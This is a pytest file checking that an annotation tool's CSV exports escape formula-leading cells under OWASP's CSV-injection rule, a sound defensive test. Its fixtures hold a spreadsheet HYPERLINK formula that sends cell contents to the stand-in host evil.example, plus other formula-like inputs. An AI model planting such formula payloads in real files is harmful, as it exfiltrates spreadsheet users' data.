"""CSV exports are safe to open in a spreadsheet (OWASP's "CSV Injection" rule).

Text cells starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return get a leading ``'``; numbers, negative scores included, stay numbers;
the matrix reads back with the ids and codes it was made from. The expected
cells are written out here from the rule, not taken from the exporter.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotator.data.csv_escape import escape_cell, unescape_cell
from annotator.data.exporters import render_export
from annotator.db import session_scope
from annotator.metrics.matrix import read_matrix
from annotator.study.studies import get_study

DATA = Path(__file__).parent
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "x")'

STUDY = (
    (DATA / "small-study.toml")
    .read_text()
    .replace(
        '[[benchmarks]]\nname = "sts-b"',
        '[[scales]]\nname = "-3 to 3"\nmin = -3\nmax = 3\nstep = 1\n\n'
        '[[benchmarks]]\nname = "sts-b"',
        1,
    )
)
ITEMS = [
    ["item_id", "benchmark", "sentence1", "sentence2", "question", "answer"],
    ["=1+1", "sts-b", "a", "b", "", ""],
    ["+cmd", "sts-b", "c", "d", "", ""],
    ["'=x", "sts-b", "e", "f", "", ""],
    ["plain", "sts-b", "g", "h", "", ""],
]
RATINGS = [
    ["item_id", "rater", "scale", "score", "field"],
    ["=1+1", "-ann", "0-5", "4", HYPERLINK],
    ["+cmd", "-ann", "0-5", "2.5", HYPERLINK],
    ["plain", "-ann", "0-5", "1", HYPERLINK],
    ["'=x", "-ann", "0-5", "3", HYPERLINK],
    ["=1+1", "@bob", "0-5", "3", "-2"],
    ["plain", "@bob", "0-5", "0", "-2"],
    ["=1+1", "-ann", "-3 to 3", "-2", HYPERLINK],
    ["plain", "@bob", "-3 to 3", "-3", "-2"],
]


def _write(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


@pytest.fixture
def hostile(runner, tmp_path) -> str:
    (tmp_path / "study.toml").write_text(STUDY)
    for args in (
        ["study", "create", tmp_path / "study.toml"],
        ["items", "import", "small", _write(tmp_path / "items.csv", ITEMS)],
        ["ratings", "import", "small", _write(tmp_path / "ratings.csv", RATINGS)],
    ):
        result = runner.invoke(args=[str(a) for a in args], catch_exceptions=False)
        assert result.exit_code == 0, result.output
    return "small"


def _export(app, fmt: str, **options) -> str:
    with session_scope(app) as session:
        return render_export(session, get_study(session, "small"), fmt, **options).text


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# ------------------------------------------------------------------ the rule


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "'-"),
        ("'=x", "''=x"),
        ("''@x", "'''@x"),
        # Numbers are not formulas.
        ("-2", "-2"),
        ("+2.5", "+2.5"),
        ("-1e-05", "-1e-05"),
        # Nothing else changes.
        ("'-2", "'-2"),
        ("'quoted'", "'quoted'"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_the_owasp_rule(cell, written):
    assert escape_cell(cell) == written
    assert unescape_cell(written) == cell


@given(st.text())
def test_every_text_reads_back(text):
    assert unescape_cell(escape_cell(text)) == text


@given(st.text().filter(lambda t: not t.startswith("'")))
def test_a_cell_never_escaped_reads_back_unchanged(text):
    """Files written before the escaping: only a ``'`` first can change."""
    assert unescape_cell(text) == text


# ------------------------------------------------------------------ the files


def test_demographics_export(app, hostile):
    rows = {row["rater"]: row for row in _rows(_export(app, "demographics"))}
    assert set(rows) == {"'-ann", "'@bob"}
    assert rows["'-ann"]["field"] == "'" + HYPERLINK
    # A number stays a number.
    assert rows["'@bob"]["field"] == "-2"


def test_long_export(app, hostile):
    rows = _rows(_export(app, "long"))
    assert {row["item_id"] for row in rows} == {"'=1+1", "'+cmd", "''=x", "plain"}
    assert {row["rater"] for row in rows} == {"'-ann", "'@bob"}
    assert {row["field"] for row in rows} == {"'" + HYPERLINK, "-2"}
    negative = [row for row in rows if row["scale"] == "'-3 to 3"]
    # Negative scores are numbers, written as numbers.
    assert sorted(row["score"] for row in negative) == ["-2", "-3"]


def test_matrix_export_is_escaped_and_reads_back(app, hostile):
    text = _export(app, "matrix", scale="0-5")
    header, *lines = text.splitlines()
    assert header == "item_id,benchmark,'-ann,'@bob"
    assert {line.split(",")[0] for line in lines} == {"'=1+1", "'+cmd", "''=x", "plain"}
    matrix = read_matrix(io.StringIO(text))
    assert list(matrix.humans.columns) == ["-ann", "@bob"]
    expected = {"=1+1": [4.0, 3.0], "+cmd": [2.5, None], "'=x": [3.0, None], "plain": [1.0, 0.0]}
    got = matrix.humans.astype(object).where(matrix.humans.notna(), None)
    assert {item: list(got.loc[item]) for item in got.index} == expected


def test_a_matrix_never_escaped_reads_as_pandas_reads_it():
    """A file from before the escaping (or from another tool) reads as before."""
    text = "item_id,benchmark,ann,'quoted\ns1,sts-b,1,2\n-s2,,3,\n"
    matrix = read_matrix(io.StringIO(text))
    plain = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False, na_values=[""])
    assert list(matrix.humans.index) == list(plain["item_id"])
    assert list(matrix.humans.columns) == ["ann", "'quoted"]
